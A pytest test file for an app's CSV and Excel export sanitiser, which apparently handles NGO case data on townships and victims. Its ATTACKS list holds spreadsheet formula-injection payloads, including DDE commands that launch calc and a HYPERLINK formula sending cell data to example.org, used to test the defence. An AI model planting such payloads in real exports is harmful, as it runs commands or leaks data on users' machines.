"""What leaves the app: nothing that a spreadsheet would run, text as text, and an audit row for every file."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.scope import Scope
from data.store import memory_store
from data.vocabulary import Role, Service
from ui import export
from ui.export import Column, Cover, Kind, harmless, to_csv, to_xlsx

ATTACKS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\ufeff\t =1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "＠x",
    '=HYPERLINK("https://example.org?x="&A1,"open")',
    "=IMPORTXML(CONCAT(A1),B1)",
    "+95=1",
    "+95 9 123 456 789=cmd",
    "-1-cmd",
]
HARMLESS = [
    "Myitkyina",
    "မြစ်ကြီးနား",
    "+95 9 123 456 789",
    "+959123456789",
    "+95 (0)9-123.456",
    "-5",
    "-5.25",
    "a = b",
    "1+1",
    "50 %",
    "mail@example.org",
    "O'Brien",
    "",
]
COVER = Cover("A title", (("Source", "=1+1"), ("State as of", "31 Dec 2025")))
TEXT = [Column("x", "Name")]


def cells(data: bytes) -> list[str]:
    """First column of a CSV below its heading, as a program reads it."""
    text = data.decode("utf-8-sig")
    return [row[0] if row else "" for row in csv.reader(io.StringIO(text, newline=""))][1:]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_text_in_both_formats(attack):
    assert harmless(attack).startswith("'")
    frame = pd.DataFrame({"x": [attack]})
    assert cells(to_csv(frame, TEXT))[0].startswith("'")
    cell = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, TEXT, COVER)))["Data"]["A2"]
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'")
    assert cell.hyperlink is None


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_as_it_is(text):
    assert harmless(text) == text


def test_a_telephone_number_stays_text_in_a_workbook():
    frame = pd.DataFrame({"x": ["+959123456789"]})
    cell = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, TEXT, COVER)))["Data"]["A2"]
    assert (cell.data_type, cell.value) == ("s", "+959123456789")


@pytest.mark.parametrize("text", ["note;=1+1", "a\t=1+1", "a\n=cmd()", 'x","=1+1', "a;  @SUM(A1)", "a;+cmd|x"])
def test_nothing_runs_where_excel_cuts_cells_at_another_sign(text):
    parts = [part.strip(' "') for sign in ";\t\n," for part in harmless(text).split(sign)[1:]]
    assert not [part for part in parts if part.startswith(("=", "+", "@", "|"))]


@given(st.text(max_size=60))
def test_no_text_at_all_begins_like_a_formula(text):
    safe = harmless(text).lstrip(" \t\r\n\ufeff\u200b\u00a0")
    assert not safe.startswith(("=", "@", "|", "%"))
    if safe.startswith(("+", "-")):
        assert not any(letter.isalpha() for letter in safe)


def test_headings_are_harmless_too():
    column = [Column("x", "=1+1", "people")]
    assert to_csv(pd.DataFrame({"x": [1]}), column).decode("utf-8-sig").splitlines()[0] == "'=1+1 (people)"


def test_a_csv_opens_in_excel_with_burmese_and_reads_back_as_it_was():
    frame = pd.DataFrame(
        {"name": ["မြစ်ကြီးနား", None], "n": [3, None], "on": [pd.Timestamp("2025-03-07"), pd.NaT], "s": [0.25, 1]}
    )
    columns = [
        Column("name", "Township"),
        Column("n", "Victims", "people", Kind.NUMBER),
        Column("on", "Seen on", kind=Kind.DAY),
        Column("s", "Share", kind=Kind.SHARE),
    ]  # fmt: skip
    data = to_csv(frame, columns)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").split("\r\n") == [
        "Township,Victims (people),Seen on,Share",
        "မြစ်ကြီးနား,3,2025-03-07,0.25",
        ",,,1.0",
        "",
    ]


def test_a_workbook_says_where_it_comes_from_and_keeps_numbers_and_dates():
    frame = pd.DataFrame({"n": [3], "on": [date(2025, 3, 7)], "s": [0.25], "b": [True], "t": ["0012"]})
    columns = [
        Column("n", "Victims", "people", Kind.NUMBER),
        Column("on", "On", kind=Kind.DAY),
        Column("s", "Share", kind=Kind.SHARE),
        Column("b", "Yes", kind=Kind.YES_NO),
        Column("t", "Code"),
    ]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, columns, COVER)))
    assert book.sheetnames == ["About", "Data"]
    assert [book["About"].cell(row, 2).value for row in (3, 4)] == ["'=1+1", "31 Dec 2025"]
    assert [cell.value for cell in book["Data"][1]] == ["Victims (people)", "On", "Share", "Yes", "Code"]
    n, on, share, yes, code = (cell.value for cell in book["Data"][2])
    assert (n, on.date(), share, yes, code) == (3, date(2025, 3, 7), 0.25, True, "0012")


def test_a_number_without_bound_is_left_out_of_both_formats():
    frame = pd.DataFrame({"x": [float("inf"), 0.5]})
    columns = [Column("x", "Load", kind=Kind.SHARE)]
    assert cells(to_csv(frame, columns)) == ["", "0.5"]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, columns, COVER)))["Data"]
    assert [sheet["A2"].value, sheet["A3"].value] == [None, 0.5]


def test_codes_are_written_as_labels_and_an_unknown_one_as_it_stands():
    frame = pd.DataFrame({"x": ["health; legal", "health;witchcraft", None]})
    found = export.worded(frame, [Column("x", "Services", codes=Service)])["x"].tolist()
    assert found[:2] == ["Health; Legal aid", "Health; witchcraft"]
    assert pd.isna(found[2])


def test_a_missing_column_is_an_error_and_not_an_empty_file():
    with pytest.raises(KeyError):
        export.worded(pd.DataFrame({"x": [1]}), [Column("y", "Y")])


def test_every_file_made_leaves_an_audit_row_and_none_is_made_without_it():
    store = memory_store()
    reader = Scope(Role.NGO_MANAGER, "manager.a", "A")
    made = []
    make = export._audited(lambda: made.append(1) or b"x", store, reader, "gaps.csv", 7)
    assert not len(store.read("SELECT * FROM audit_log WHERE action = 'export'"))
    assert make() == b"x"
    rows = store.read("SELECT actor, role, organisation_id, action, subject, records FROM audit_log")
    assert rows.iloc[-1].tolist() == ["manager.a", "ngo_manager", "A", "export", "gaps.csv", 7]
    store.close()
    with pytest.raises(Exception, match=r"[Cc]onnection|closed"):
        make()
    assert made == [1]
